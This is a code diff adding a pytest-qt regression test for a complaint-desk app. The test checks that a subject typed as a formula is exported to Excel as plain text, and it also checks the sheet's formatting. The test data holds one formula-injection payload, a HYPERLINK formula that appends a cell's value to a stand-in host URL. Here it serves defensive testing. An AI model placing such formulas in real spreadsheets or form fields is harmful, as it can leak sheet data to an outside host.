@@ -1058,3 +1058,30 @@ def test_reports_page_builds_the_report_off_the_gui_thread(qtbot: Any, desk: Des
     assert not page.busy.isVisible() and page.excel.isEnabled() and page.pdf.isEnabled()
     assert "۱" in page.figures.toPlainText()
     tasks.wait()
+
+
+def test_a_subject_typed_as_a_formula_goes_to_excel_as_the_words_typed(qtbot: Any, desk: Desk,
+                                                                       tmp_path: Path) -> None:
+    """A citizen's complaint subject «=HYPERLINK(…)» exported from the search list became a live
+    link in the clerk's Excel (openpyxl writes text starting with «=» as a formula). It is now
+    text; the sheet's heading row is bold and stays in view, and the columns are wide enough to
+    read the codes and dates (Excel's default cut them to «####»)."""
+    from openpyxl import load_workbook
+
+    subject = '=HYPERLINK("http://x.example/?q="&A1,"پیوست شکایت")'
+    r = sec.intake(desk.store, desk.clerk, case_input(1, subject=subject), on=DAY)
+    page = SearchPage(make_ctx(desk.store, desk.manager, tmp_path))
+    qtbot.addWidget(page)
+    page.date_from.set_value(None)
+    page.date_to.set_value(None)
+    assert page.model.total == 1
+    path = tmp_path / "cases.xlsx"
+    assert page.export(path) == 1
+    ws = load_workbook(path).active
+    assert ws is not None
+    [cell] = [c for row in ws.iter_rows(min_row=2) for c in row if "HYPERLINK" in str(c.value)]
+    assert cell.data_type == "s" and cell.value == q.get_case(desk.store, desk.manager, r.case_id).case["subject"]
+    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2"
+    for column in ws.iter_cols():
+        longest = max(len(str(c.value)) for c in column if c.value is not None)
+        assert (ws.column_dimensions[column[0].column_letter].width or 0) >= min(longest, 60)
